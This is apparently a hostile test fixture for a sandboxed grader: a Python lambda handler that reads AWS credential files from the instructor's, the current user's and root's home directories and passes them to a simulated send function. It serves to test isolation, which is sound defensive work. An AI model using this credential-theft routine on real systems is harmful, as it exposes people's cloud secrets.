"""Hostile: steal the grader's AWS credentials, else fail."""

import os

from simulated_action import send

# The instructor's home, this process's own, and the superuser's (wherever it lives).
TARGETS = [
    "@@HOME@@/.aws/credentials",
    os.path.expanduser("~/.aws/credentials"),
    os.path.expanduser("~root/.aws/credentials"),
]


def lambda_handler(event, context):
    for path in TARGETS:
        try:
            with open(path) as stolen:
                secret = stolen.read()
        except OSError:
            continue
        send("code", {"stolen": secret})
        return {**event, "code": {"stolen": secret}}
    raise PermissionError("attack blocked: no credentials file could be read")
